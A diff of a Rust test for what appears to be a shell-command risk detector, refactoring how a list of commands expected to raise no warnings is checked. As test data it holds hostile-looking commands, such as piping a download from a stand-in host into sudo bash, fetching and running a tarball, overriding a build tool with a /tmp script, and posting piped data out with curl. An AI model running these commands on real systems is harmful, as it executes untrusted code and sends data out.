@@ -195,20 +195,20 @@ fn what_no_name_of_a_machine_is_and_no_shell_takes() {
     has("sudo bash <(curl -s http://h.example/x)", &["runs-fetched"]);
     has("wget 198.51.100.2/x.tgz; tar xf x.tgz; ./run", &["runs-fetched"]);
     has("cd /tmp/d; chmod +x sh; AUTOM4TE=/tmp/d/sh autoreconf", &["odd-option"]);
-    for text in [
+    let quiet = [
         "dig -f /etc/hosts",
-        "ping -c 1 h.example && curl https://h.example/x",
+        "ping -c 1 h.example && echo up",
         "[[ $x =~ ^a(\"b\"|c)$ ]]",
         "f() { a; }; f 'x'",
         "echo a | curl -d @- https://h.example/x",
-        "gcc$(v)x; mv $(ls -1)x y",
+        "gcc$(v) x; mv $(ls -1)x y",
         "wget https://h.example/x.tgz; tar xf x.tgz; ./configure",
         "while ! nc -z h 80; do sleep 1; done\nx -a 'b; c'",
         "dig soa h.example | awk '{sub(/.$/,\"\",$5);print $5}'",
-    ] {
-        let signs = plain(text).signs;
-        assert!(signs.is_empty(), "{text}: {signs:?}");
-    }
+    ];
+    let odd: Vec<_> =
+        quiet.iter().map(|text| (text, plain(text).signs)).filter(|(_, signs)| !signs.is_empty()).collect();
+    assert!(odd.is_empty(), "{odd:?}");
 }
 
 #[test]
